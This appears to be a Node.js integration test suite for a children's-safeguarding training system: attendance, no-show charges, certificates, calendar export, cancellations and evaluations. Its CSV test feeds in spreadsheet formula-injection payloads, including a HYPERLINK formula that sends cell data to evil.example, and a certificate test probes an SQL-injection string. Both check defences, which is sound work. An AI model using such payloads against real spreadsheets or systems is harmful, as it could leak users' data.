// Training, part 2: the register (attended / no_show), non-attendance
// charges with waivers and the finance team's CSV, certificates (JSON and a
// PDF read back with pdftotext), the calendar file, cancelling a session,
// e-learning completions and evaluations, and the demo data.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BASE, request, psql } from './lib/client.mjs';
import { validateResponse } from './lib/openapi.mjs';
import { as } from './lib/people.mjs';
import { rs256 } from './lib/tokens.mjs';
import {
  person, admin, subOf, manager, course, session, book, cancel, startedAgo, iso, inDays, localDate, localInstant, ymd,
} from './lib/training.mjs';

const TA = admin();
const mark = (token, id, status) => request('PUT', `/v1/bookings/${id}/attendance`, { token, body: { status } });

// A session that has started, with one confirmed booking per token given.
async function heldSession(tokens, opts = {}) {
  const c = await course(TA, opts.course || {});
  const s = await session(TA, c.id, opts.session || {});
  const bookings = [];
  for (const t of tokens) bookings.push((await book(t, s.id)).body);
  startedAgo(s.id);
  return { c, s, bookings };
}

describe('the register', () => {
  it('opens when the session starts; attended issues a certificate, no_show charges and revokes it', async () => {
    const c = await course(TA);
    const s = await session(TA, c.id);
    const d = person('police', 'practitioner');
    const b = (await book(d, s.id)).body;
    let res = await mark(TA, b.id, 'attended');
    assert.equal(res.status, 409);
    assert.match(res.body.detail, /has not started yet/);
    startedAgo(s.id);
    for (const token of [d, person('police', 'safeguarding_lead'), as.admin]) assert.equal((await mark(token, b.id, 'attended')).status, 403);
    res = await request('PUT', `/v1/bookings/${b.id}/attendance`, { token: TA, body: { status: 'present' } });
    assert.equal(res.status, 400);
    assert.equal((await mark(TA, randomUUID(), 'attended')).status, 404);

    res = await mark(TA, b.id, 'attended');
    assert.equal(res.status, 200);
    assert.equal(res.body.status, 'attended');
    assert.match(res.body.certificate_number, /^SGP-\d{4}-\d{6}$/);
    const number = res.body.certificate_number;
    assert.equal((await mark(TA, b.id, 'attended')).body.certificate_number, number, 'marking again changes nothing');

    res = await mark(TA, b.id, 'no_show');
    assert.equal(res.body.status, 'no_show');
    assert.equal(res.body.certificate_number, null);
    assert.deepEqual([res.body.charge.reason, res.body.charge.amount_pence, res.body.charge.status], ['no_show', 5000, 'outstanding']);
    assert.equal((await request('GET', `/v1/certificates/${number}`, { token: TA })).body.valid, false);

    res = await mark(TA, b.id, 'attended');
    assert.equal(res.body.certificate_number, number, 'the same number stands again');
    assert.equal(res.body.charge.status, 'withdrawn');
    assert.equal((await request('GET', `/v1/certificates/${number}`, { token: TA })).body.valid, true);

    const audit = psql(`select string_agg(details->>'from' || '>' || (details->>'to'), ',' order by occurred_at) from safeguard.audit_events
                        where action = 'training.attendance.mark' and resource_type = 'training_booking' and resource_id = '${b.id}'`);
    assert.equal(audit, 'confirmed>attended,attended>no_show,no_show>attended');
    // staff data: none of it is a child's audit row
    assert.equal(psql(`select count(*) from safeguard.audit_events where resource_type = 'child' and actor_sub in ('${subOf(TA)}', '${subOf(d)}')`), '0');
  });

  it('has only confirmed bookings on it', async () => {
    const c = await course(TA);
    const s = await session(TA, c.id, { capacity: 1 });
    await book(person('health', 'practitioner'), s.id);
    const w = (await book(person('health', 'practitioner'), s.id)).body;
    startedAgo(s.id);
    const res = await mark(TA, w.id, 'attended');
    assert.equal(res.status, 409);
    assert.match(res.body.detail, /this one is waitlisted/);
  });
});

describe('charges', () => {
  it('are listed per period and agency, waived with a reason (audited), for training admins only', async () => {
    const a = person('youth_justice', 'practitioner');
    const b = person('district', 'practitioner');
    const { bookings } = await heldSession([a, b]);
    await mark(TA, bookings[0].id, 'no_show');
    await mark(TA, bookings[1].id, 'no_show');
    const today = localDate(0);
    let res = await request('GET', `/v1/training-charges?from=${today}&to=${today}&agency=youth_justice&limit=200`, { token: TA });
    assert.equal(res.status, 200);
    const mine = res.body.items.filter((ch) => ch.booking_id === bookings[0].id);
    assert.equal(mine.length, 1);
    assert.ok(res.body.items.every((ch) => ch.delegate.agency === 'youth_justice'));
    assert.ok(!res.body.items.some((ch) => ch.booking_id === bookings[1].id));
    // a past period: none of today's charges, and (other suites' charges of
    // the day before, when a run crosses midnight) only charges raised in it
    const past = (await request('GET', `/v1/training-charges?from=${localDate(-30)}&to=${localDate(-1)}&limit=200`, { token: TA })).body.items;
    assert.ok(!past.some((ch) => ch.booking_id === bookings[0].id || ch.booking_id === bookings[1].id));
    for (const ch of past) assert.ok(ymd(new Date(ch.raised_at)) >= localDate(-30) && ymd(new Date(ch.raised_at)) <= localDate(-1), ch.raised_at);
    const bad = await request('GET', `/v1/training-charges?from=${today}&to=${localDate(-1)}`, { token: TA });
    assert.equal(bad.status, 400);
    assert.equal(bad.body.errors[0].field, 'to');
    for (const token of [person('youth_justice', 'safeguarding_lead'), a, as.auditor]) {
      assert.equal((await request('GET', '/v1/training-charges', { token })).status, 403);
      assert.equal((await request('POST', `/v1/training-charges/${mine[0].id}/waiver`, { token, body: { reason: 'x' } })).status, 403);
    }
    assert.equal((await request('POST', `/v1/training-charges/${mine[0].id}/waiver`, { token: TA, body: {} })).status, 400);
    res = await request('POST', `/v1/training-charges/${mine[0].id}/waiver`, { token: TA, body: { reason: 'called to a section 47 strategy meeting' } });
    assert.equal(res.status, 200);
    assert.deepEqual([res.body.status, res.body.waiver_reason, res.body.waived_by], ['waived', 'called to a section 47 strategy meeting', subOf(TA)]);
    assert.equal(psql(`select count(*) from safeguard.audit_events where action = 'training.charge.waive' and resource_id = '${mine[0].id}' and resource_type = 'training_charge'`), '1');
    res = await request('POST', `/v1/training-charges/${mine[0].id}/waiver`, { token: TA, body: { reason: 'again' } });
    assert.equal(res.status, 409);
    assert.match(res.body.detail, /the charge is waived/);
    assert.equal((await request('POST', `/v1/training-charges/${randomUUID()}/waiver`, { token: TA, body: { reason: 'x' } })).status, 404);
    assert.equal((await request('POST', '/v1/training-charges/nope/waiver', { token: TA, body: { reason: 'x' } })).status, 404);
    // a waived charge stays waived when the register says no_show again
    assert.equal((await mark(TA, bookings[0].id, 'no_show')).body.charge.status, 'waived');
    res = await request('GET', '/v1/training-charges?status=waived&reason=no_show&agency=youth_justice', { token: TA });
    assert.ok(res.body.items.some((ch) => ch.id === mine[0].id));
  });

  it('export as CSV that a spreadsheet cannot run as formulas', async () => {
    const evil = [
      ['=HYPERLINK("https://evil.example/?"&A1,"click")', `'=HYPERLINK(""https://evil.example/?""&A1,""click"")`],
      ['+44 7700 900123', `'+44 7700 900123`],
      ['-2+3', `'-2+3`],
      ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
      ['Sam "Sparky" Jones, Jr', 'Sam ""Sparky"" Jones, Jr'],
    ];
    const tokens = evil.map(([name], i) => person('voluntary', 'practitioner', `csv-${i}-${randomUUID().slice(0, 6)}`, { name }));
    const { bookings } = await heldSession(tokens);
    for (const b of bookings) await mark(TA, b.id, 'no_show');
    const today = localDate(0);
    // the CSV has its own route; the list answers JSON whatever Accept says
    const list = await request('GET', `/v1/training-charges?from=${today}&to=${today}&agency=voluntary`, { token: TA, headers: { Accept: 'text/csv' } });
    assert.equal(list.status, 200);
    assert.match(list.headers.get('content-type'), /^application\/json/);
    assert.equal(list.body.items.length, bookings.length);
    const res = await request('GET', `/v1/training-charges.csv?from=${today}&to=${today}&agency=voluntary`, { token: TA });
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type'), /^text\/csv/);
    assert.match(res.headers.get('content-disposition'), /attachment; filename="training-charges-/);
    const lines = res.text.split('\r\n');
    assert.equal(lines.at(-1), '', 'every row ends with CRLF');
    assert.ok(!/[^\r]\n/.test(res.text), 'no bare line feeds');
    assert.equal(lines[0], '"charge_id","raised_on","reason","status","amount","currency","delegate_name","delegate_email","agency","line_manager_name","line_manager_email","course","session_date","booking_id","waiver_reason"');
    for (const [i, [, cell]] of evil.entries()) {
      const row = lines.find((l) => l.includes(bookings[i].id));
      assert.ok(row, `a row for booking ${i}`);
      assert.ok(row.includes(`,"${cell}",`), `${row} holds ${cell}`);
      assert.ok(row.includes(',"no_show","outstanding","50.00","GBP",'), row);
    }
    // nothing outside the filter
    assert.ok(lines.slice(1, -1).every((l) => l.includes('"voluntary"')));
    // the list's filters and checks, without its paging; training admins only
    assert.deepEqual((await request('GET', `/v1/training-charges.csv?from=${today}&to=${localDate(-1)}`, { token: TA })).body.errors.map((e) => `${e.field}:${e.code}`), ['to:before_from']);
    assert.equal((await request('GET', '/v1/training-charges.csv?limit=5', { token: TA })).status, 400);
    assert.equal((await request('GET', '/v1/training-charges.csv', { token: person('voluntary', 'practitioner') })).status, 403);
  });
});

describe('certificates', () => {
  it('are refused, saying why, for any booking not attended', async () => {
    const c = await course(TA);
    const s = await session(TA, c.id, { capacity: 1 });
    const d = person('education', 'practitioner');
    const b = (await book(d, s.id)).body;
    const w = (await book(person('education', 'practitioner'), s.id)).body;
    let res = await request('GET', `/v1/bookings/${b.id}/certificate`, { token: d });
    assert.equal(res.status, 409);
    assert.equal(res.body.type, '/problems/not-attended');
    assert.equal(res.body.detail, 'certificates are issued only for a session attended in full; this booking is confirmed: the register has not marked it attended');
    res = await request('GET', `/v1/bookings/${w.id}/certificate`, { token: TA });
    assert.match(res.body.detail, /waitlisted: it is on the waiting list and never held a place/);
    startedAgo(s.id);
    await mark(TA, b.id, 'no_show');
    res = await request('GET', `/v1/bookings/${b.id}/certificate`, { token: d, headers: { Accept: 'application/pdf' } });
    assert.equal(res.status, 409);
    assert.match(res.body.detail, /no_show: the register marks it as not attended/);
    assert.equal((await request('GET', `/v1/bookings/${b.id}/certificate`, { token: person('education', 'practitioner') })).status, 404);
  });

  it('come as JSON and as a PDF that opens and carries the name; training admins verify the number', async () => {
    const name = 'Zoë O\'Brien-Łukasiewicz';
    const d = person('mental_health', 'practitioner', `cert-${randomUUID().slice(0, 6)}`, { name });
    const title = 'Learning from the Jacob review: exploitation and children missing education';
    const { s, bookings: [b] } = await heldSession([d], {
      course: { title, format: 'learning_event', organiser: 'OSCB business unit', case_review: { title: 'Child Safeguarding Practice Review: Jacob' } },
      session: { starts_at: iso(inDays(20)), ends_at: iso(new Date(inDays(20).getTime() + 150 * 60000)) },
    });
    psql(`update safeguard.training_sessions set ends_at = starts_at + interval '150 minutes' where id = '${s.id}'`);
    const number = (await mark(TA, b.id, 'attended')).body.certificate_number;
    let res = await request('GET', `/v1/bookings/${b.id}/certificate`, { token: d });
    assert.equal(res.status, 200);
    assert.deepEqual([res.body.number, res.body.delegate_name, res.body.course_title, res.body.duration_minutes, res.body.valid],
      [number, name, title, 150, true]);
    assert.equal((await request('GET', `/v1/bookings/${b.id}/certificate`, { token: person('mental_health', 'safeguarding_lead') })).status, 200);
    assert.equal((await request('GET', `/v1/bookings/${b.id}/certificate`, { token: person('health', 'safeguarding_lead') })).status, 404);

    const raw = await fetch(`${BASE}/v1/bookings/${b.id}/certificate`, { headers: { Authorization: `Bearer ${d}`, Accept: 'application/pdf' } });
    const pdf = Buffer.from(await raw.arrayBuffer());
    validateResponse({ method: 'GET', path: `/v1/bookings/${b.id}/certificate`, status: raw.status, headers: raw.headers, body: 'binary' });
    assert.equal(raw.status, 200);
    assert.equal(raw.headers.get('content-type'), 'application/pdf');
    assert.equal(pdf.subarray(0, 5).toString(), '%PDF-');
    const dir = mkdtempSync(join(tmpdir(), 'sg-cert-'));
    try {
      const file = join(dir, 'certificate.pdf');
      writeFileSync(file, pdf);
      const info = execFileSync('pdfinfo', [file], { encoding: 'utf8' });
      assert.match(info, /Pages:\s+1/);
      assert.match(info, new RegExp(`Title:\\s+Certificate ${number}`));
      const raw = execFileSync('pdftotext', ['-enc', 'UTF-8', file, '-'], { encoding: 'utf8' });
      // line by line as pdftotext reads the page: the layout as it has been
      // since certificates began (the title wrapped after "children")
      const lines = raw.split('\n').map((l) => l.trim()).filter(Boolean);
      const expected = ['Certificate of attendance', 'This is to certify that', name, 'attended the whole of the learning event',
        'Learning from the Jacob review: exploitation and children', 'missing education', 'organised by OSCB business unit',
        /^on \d{1,2} [A-Z][a-z]+ \d{4}, lasting 2 hours 30 minutes$/, `Certificate number ${number}`,
        'The safeguarding children partnership. A training admin verifies this number on request.', /^Issued \d{1,2} [A-Z][a-z]+ \d{4}$/];
      assert.equal(lines.length, expected.length, JSON.stringify(lines));
      for (const [i, e] of expected.entries()) {
        if (typeof e === 'string') assert.equal(lines[i], e);
        else assert.match(lines[i], e);
      }
      const text = raw.replace(/\s+/g, ' ');
      assert.ok(text.includes(name), `the PDF carries the name: ${text}`);
      assert.ok(text.includes(number));
      assert.ok(text.includes('Certificate of attendance'));
      assert.ok(text.includes('2 hours 30 minutes'));
      assert.ok(text.includes('learning event'));
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }

    res = await request('GET', `/v1/certificates/${number}`, { token: TA });
    assert.equal(res.status, 200);
    assert.deepEqual([res.body.delegate_name, res.body.booking_id, res.body.valid], [name, b.id, true]);
    assert.equal(psql(`select count(*) from safeguard.audit_events where action = 'training.certificate.verify' and resource_id = '${number}'`), '1');
    assert.equal((await request('GET', `/v1/certificates/${number}`, { token: d })).status, 403);
    assert.equal((await request('GET', '/v1/certificates/SGP-2020-999999', { token: TA })).status, 404);
    assert.equal((await request('GET', '/v1/certificates/%27%20or%201=1', { token: TA })).status, 404);
  });
});

describe('the calendar', () => {
  it('is RFC 5545: CRLF, escaped TEXT, lines folded at 75 octets without splitting a character', async () => {
    const title = 'Neglect; the toxic trio, and "voice of the child" \\ a long title with ünïcödé — to fold 🙂 across lines';
    const c = await course(TA, { title });
    const day = localDate(12);
    const s1 = await session(TA, c.id, { capacity: 1, mode: 'venue', venue: { name: 'Didcot Civic Hall', address: 'Britwell Road, Didcot', postcode: 'OX11 7HN' }, starts_at: localInstant(day, '09:30'), ends_at: localInstant(day, '12:00') });
    const s2 = await session(TA, c.id, { starts_at: localInstant(localDate(14), '14:00'), ends_at: localInstant(localDate(14), '15:00'), online_url: 'https://meet.example.org/room-4' });
    const me = person('csc', 'social_worker');
    await book(person('csc', 'practitioner'), s1.id);
    const waiting = (await book(me, s1.id)).body;
    const online = (await book(me, s2.id)).body;
    const c3 = await session(TA, c.id);
    const gone = (await book(me, c3.id)).body;
    await cancel(me, gone.id);

    const res = await request('GET', '/v1/me/bookings.ics', { token: me });
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type'), /^text\/calendar/);
    const raw = Buffer.from(res.text, 'utf8');
    const physical = res.text.split('\r\n');
    assert.equal(physical.at(-1), '');
    assert.ok(!/[^\r]\n/.test(res.text), 'no bare line feeds');
    for (const line of physical) {
      assert.ok(Buffer.byteLength(line) <= 75, `a line of ${Buffer.byteLength(line)} octets: ${line}`);
      assert.doesNotThrow(() => new TextDecoder('utf-8', { fatal: true }).decode(Buffer.from(line)), 'no fold splits a character');
    }
    assert.ok(raw.length > 0);
    // the list answers JSON whatever Accept says: one representation per route
    const json = await request('GET', '/v1/me/bookings', { token: me, headers: { Accept: 'text/calendar' } });
    assert.equal(json.status, 200);
    assert.match(json.headers.get('content-type'), /^application\/json/);
    assert.ok(Array.isArray(json.body.items));
    const lines = res.text.replace(/\r\n /g, '').split('\r\n');
    assert.equal(lines[0], 'BEGIN:VCALENDAR');
    assert.ok(lines.includes('VERSION:2.0'));
    assert.equal(lines.at(-2), 'END:VCALENDAR');
    const events = res.text.replace(/\r\n /g, '').split('BEGIN:VEVENT\r\n').slice(1).map((e) => Object.fromEntries(
      e.split('\r\n').filter((l) => l && !l.startsWith('END:')).map((l) => [l.slice(0, l.indexOf(':')), l.slice(l.indexOf(':') + 1)])));
    const byUid = Object.fromEntries(events.map((e) => [e.UID, e]));
    const escaped = title.replace(/\\/g, '\\\\').replace(/;/g, '\\;').replace(/,/g, '\\,');
    const w = byUid[`${waiting.id}@safeguard`];
    assert.equal(w.STATUS, 'TENTATIVE');
    assert.equal(w.SUMMARY, `${escaped} (waiting list\\, position 1)`);
    assert.equal(w.LOCATION, 'Didcot Civic Hall\\, Britwell Road\\, Didcot\\, OX11 7HN');
    assert.equal(w.DTSTART, localInstant(day, '09:30').replace(/[-:]/g, ''));
    assert.match(w.DESCRIPTION, /\\nYour booking: waitlisted\.\\n/);
    const o = byUid[`${online.id}@safeguard`];
    assert.deepEqual([o.STATUS, o.SUMMARY, o.LOCATION, o.URL], ['CONFIRMED', escaped, 'Online', 'https://meet.example.org/room-4']);
    assert.equal(byUid[`${gone.id}@safeguard`].STATUS, 'CANCELLED');
    assert.match(o.DTSTAMP, /^\d{8}T\d{6}Z$/);
    assert.equal(events.length, 3);
  });
});

describe('cancelling a session', () => {
  it('cancels every live booking, says so on each, and withdraws late-cancellation charges', async () => {
    const c = await course(TA);
    const day = localDate(3);
    const s = await session(TA, c.id, { capacity: 1, starts_at: localInstant(day, '10:00'), ends_at: localInstant(day, '12:00') });
    const [a, b, l] = [person('police', 'practitioner'), person('health', 'practitioner'), person('csc', 'practitioner')];
    const late = (await book(l, s.id)).body;
    const confirmed = (await book(a, s.id)).body;
    await cancel(l, late.id); // late: charged, and frees the place for a
    const waiting = (await book(b, s.id)).body;
    assert.equal(psql(`select status from safeguard.training_charges where booking_id = '${late.id}'`), 'outstanding');
    assert.equal((await request('POST', `/v1/training-sessions/${s.id}/cancellation`, { token: person('police', 'safeguarding_lead'), body: { reason: 'x' } })).status, 403);
    assert.equal((await request('POST', `/v1/training-sessions/${s.id}/cancellation`, { token: TA, body: {} })).status, 400);
    const res = await request('POST', `/v1/training-sessions/${s.id}/cancellation`, { token: TA, body: { reason: 'trainer unwell' } });
    assert.equal(res.status, 200);
    assert.deepEqual([res.body.status, res.body.cancellation_reason, res.body.booking_open, res.body.places_taken], ['cancelled', 'trainer unwell', false, 0]);
    for (const [token, booking] of [[a, confirmed], [b, waiting]]) {
      const got = (await request('GET', `/v1/bookings/${booking.id}`, { token })).body;
      assert.equal(got.status, 'session_cancelled');
      assert.equal(got.cancellation_reason, 'the session was cancelled: trainer unwell');
      assert.equal(got.session.status, 'cancelled');
      assert.equal(got.charge, null);
    }
    assert.equal((await request('GET', `/v1/bookings/${late.id}`, { token: l })).body.charge.status, 'withdrawn');
    assert.equal(psql(`select details->>'bookings_cancelled' || '/' || (details->>'charges_withdrawn') from safeguard.audit_events where action = 'training.session.cancel' and resource_id = '${s.id}'`), '2/1');
    const again = await request('POST', `/v1/training-sessions/${s.id}/cancellation`, { token: TA, body: { reason: 'again' } });
    assert.equal(again.status, 409);
    const started = await session(TA, c.id);
    startedAgo(started.id);
    assert.match((await request('POST', `/v1/training-sessions/${started.id}/cancellation`, { token: TA, body: { reason: 'x' } })).body.detail, /has started/);
  });
});

describe('e-learning completions', () => {
  it('are recorded once by the delegate, within the audience', async () => {
    const el = await course(TA, { format: 'e_learning', duration_minutes: 45, title: 'Child exploitation: recognising the signs', audience: { agencies: ['police', 'education'] } });
    const d = person('education', 'practitioner');
    let res = await request('POST', `/v1/courses/${el.id}/completions`, { token: d, body: {} });
    assert.equal(res.status, 201);
    assert.equal(res.body.delegate.sub, subOf(d));
    assert.equal(res.body.course_title, el.title);
    const again = await request('POST', `/v1/courses/${el.id}/completions`, { token: d, body: { completed_at: iso(new Date()) } });
    assert.equal(again.status, 409);
    assert.equal(again.body.type, '/problems/already-completed');
    assert.equal(again.body.existing_id, res.body.id);
    res = await request('POST', `/v1/courses/${el.id}/completions`, { token: person('health', 'practitioner'), body: {} });
    assert.equal(res.status, 403);
    assert.equal(res.body.type, '/problems/outside-audience');
    res = await request('POST', `/v1/courses/${el.id}/completions`, { token: person('police', 'practitioner'), body: { completed_at: iso(inDays(2)) } });
    assert.equal(res.status, 400);
    res = await request('POST', `/v1/courses/${el.id}/completions`, { token: rs256({ sub: 'anon', agency: 'police', roles: ['practitioner'] }), body: {} });
    assert.equal(res.body.type, '/problems/incomplete-identity');
    const web = await course(TA);
    assert.equal((await request('POST', `/v1/courses/${web.id}/completions`, { token: d, body: {} })).status, 409);
    const draft = await course(TA, { format: 'e_learning', duration_minutes: 10, status: 'draft' });
    assert.equal((await request('POST', `/v1/courses/${draft.id}/completions`, { token: d, body: {} })).status, 404);
  });

  it('are seen by the delegate, their agency\'s lead and training admins', async () => {
    const el = await course(TA, { format: 'e_learning', duration_minutes: 20 });
    const p = person('police', 'practitioner');
    const h = person('health', 'practitioner');
    const pc = (await request('POST', `/v1/courses/${el.id}/completions`, { token: p, body: {} })).body;
    const hc = (await request('POST', `/v1/courses/${el.id}/completions`, { token: h, body: {} })).body;
    const ids = async (token, q = '') => (await request('GET', `/v1/completions?course_id=${el.id}${q}`, { token })).body.items.map((x) => x.id);
    assert.deepEqual(await ids(p), [pc.id]);
    assert.deepEqual(await ids(person('police', 'practitioner')), []);
    assert.deepEqual(await ids(person('police', 'safeguarding_lead')), [pc.id]);
    assert.deepEqual(await ids(person('health', 'safeguarding_lead')), [hc.id]);
    assert.deepEqual(await ids(TA), [pc.id, hc.id]);
    assert.deepEqual(await ids(TA, '&agency=health'), [hc.id]);
  });
});

describe('evaluations', () => {
  it('the delegate\'s after attending; the line manager\'s three months after the session', async () => {
    const d = person('police', 'practitioner');
    const mgrEmail = `mgr-${randomUUID().slice(0, 6)}@police.example.org`;
    const c = await course(TA);
    const s = await session(TA, c.id);
    const b = (await book(d, s.id, { body: { line_manager_name: 'Mo Patel', line_manager_email: mgrEmail } })).body;
    const mgr = person('police', 'safeguarding_lead', `mgr-${randomUUID().slice(0, 6)}`, { email: mgrEmail.toUpperCase() });
    let res = await request('POST', `/v1/bookings/${b.id}/evaluations`, { token: d, body: { respondent: 'delegate', rating: 5 } });
    assert.equal(res.status, 409);
    assert.equal(res.body.type, '/problems/not-attended');
    startedAgo(s.id);
    await mark(TA, b.id, 'attended');

    let asked = (await request('GET', '/v1/me/evaluation-requests', { token: d })).body.items;
    assert.deepEqual(asked.map((x) => [x.booking_id, x.respondent]), [[b.id, 'delegate']]);
    assert.equal((await request('POST', `/v1/bookings/${b.id}/evaluations`, { token: person('police', 'practitioner'), body: { respondent: 'delegate', rating: 1 } })).status, 404);
    assert.equal((await request('POST', `/v1/bookings/${b.id}/evaluations`, { token: person('police', 'safeguarding_lead'), body: { respondent: 'delegate', rating: 1 } })).status, 403);
    assert.equal((await request('POST', `/v1/bookings/${b.id}/evaluations`, { token: d, body: { respondent: 'delegate', rating: 6 } })).status, 400);
    res = await request('POST', `/v1/bookings/${b.id}/evaluations`, { token: d, body: { respondent: 'delegate', rating: 4, comments: 'The timeline exercise was the most useful part.' } });
    assert.equal(res.status, 201);
    assert.deepEqual([res.body.respondent, res.body.rating], ['delegate', 4]);
    assert.equal((await request('POST', `/v1/bookings/${b.id}/evaluations`, { token: d, body: { respondent: 'delegate', rating: 3 } })).status, 409);
    assert.deepEqual((await request('GET', '/v1/me/evaluation-requests', { token: d })).body.items, []);

    // the manager: not yet, then three months on
    res = await request('POST', `/v1/bookings/${b.id}/evaluations`, { token: mgr, body: { respondent: 'manager', rating: 4 } });
    assert.equal(res.status, 409);
    assert.match(res.body.detail, /opens at \d{4}-\d{2}-\d{2}T/);
    assert.deepEqual((await request('GET', '/v1/me/evaluation-requests', { token: mgr })).body.items, []);
    psql(`update safeguard.training_sessions set starts_at = now() - interval '3 months 1 day', ends_at = now() - interval '3 months 1 day' + interval '2 hours',
          booking_closes_at = now() - interval '3 months 1 day' where id = '${s.id}'`);
    asked = (await request('GET', '/v1/me/evaluation-requests', { token: mgr })).body.items;
    assert.deepEqual(asked.map((x) => [x.booking_id, x.respondent, x.delegate_name]), [[b.id, 'manager', `Delegate ${subOf(d)}`]]);
    assert.equal((await request('POST', `/v1/bookings/${b.id}/evaluations`, { token: person('police', 'safeguarding_lead'), body: { respondent: 'manager', rating: 2 } })).status, 403);
    assert.equal((await request('POST', `/v1/bookings/${b.id}/evaluations`, { token: person('health', 'practitioner'), body: { respondent: 'manager', rating: 2 } })).status, 404);
    res = await request('POST', `/v1/bookings/${b.id}/evaluations`, { token: mgr, body: { respondent: 'manager', rating: 5, comments: 'Now convenes a chronology meeting early.' } });
    assert.equal(res.status, 201);
    assert.equal(res.body.respondent, 'manager');
    assert.deepEqual((await request('GET', '/v1/me/evaluation-requests', { token: mgr })).body.items, []);
    const listed = await request('GET', `/v1/bookings/${b.id}/evaluations`, { token: d });
    assert.deepEqual(listed.body.items.map((e) => e.respondent), ['delegate', 'manager']);
    assert.equal((await request('GET', `/v1/bookings/${b.id}/evaluations`, { token: TA })).body.items.length, 2);
    assert.equal((await request('GET', `/v1/bookings/${b.id}/evaluations`, { token: person('health', 'practitioner') })).status, 404);
  });
});

describe('demo data', () => {
  it('loads: courses of every format and sessions to book', () => {
    const file = join(process.env.SG_ROOT, 'db', 'demo', '003_training.sql');
    const out = execFileSync('psql', [process.env.DATABASE_URL_ADMIN, '-XAtq', '-v', 'ON_ERROR_STOP=1'], {
      input: `begin;\nset role safeguard_owner;\n${readFileSync(file, 'utf8')}\n`
        + `select string_agg(distinct format, ',' order by format) from safeguard.training_courses where created_by = 'demo';\n`
        + `select count(*) > 0 from safeguard.training_sessions where created_by = 'demo' and starts_at > now();\nrollback;\n`,
      encoding: 'utf8',
    }).trim().split('\n');
    assert.deepEqual(out, ['e_learning,learning_event,seven_minute_briefing,webinar', 't']);
  });
});
